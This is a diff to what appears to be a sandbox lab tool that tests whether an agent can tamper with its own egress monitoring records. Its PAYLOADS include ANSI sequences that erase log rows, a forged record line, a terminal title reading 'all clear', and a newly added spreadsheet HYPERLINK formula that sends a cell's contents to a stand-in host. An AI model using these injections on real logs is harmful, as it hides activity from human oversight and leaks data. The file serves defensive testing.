@@ -5,7 +5,8 @@ records (`egress events` in a terminal) shows what the agent wrote instead of wh
 `client_main VARIANT` (sandbox) makes one attempt and prints ``done``. The payloads (`PAYLOADS`) are plain text:
 ``erase`` moves the cursor up and erases lines (ECMA-48 CUU, EL: the rows printed before it vanish from the
 screen), ``forge`` breaks the line and writes a fake record line naming another sandbox, ``title`` sets the
-terminal's title (OSC 0). No byte of any of them leaves the lab: each attempt goes to blocked.lab or the gateway's
+terminal's title (OSC 0), ``formula`` is a spreadsheet formula (a cell of `egress events -o csv` that a
+spreadsheet would evaluate, CWE-1236). No byte of any of them leaves the lab: each attempt goes to blocked.lab or the gateway's
 resolver, and is refused.
 """
 
@@ -25,6 +26,7 @@ PAYLOADS = {
     "erase": f"{MARK}\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[8m",
     "forge": f"{MARK}\n2026-12-03 06:00:00.000 other 10.203.3.2:40000 -> 198.18.10.1:443/tcp allowed.lab policy x",
     "title": f"{MARK}\x1b]0;all clear\x1b\\",
+    "formula": f'=HYPERLINK("http://{MARK}.example/"&A1,"all clear")',
 }
 """What each variant writes where the host name goes (the names of the rows: ``sni-erase``, ``dns-forge`` ...)."""
 
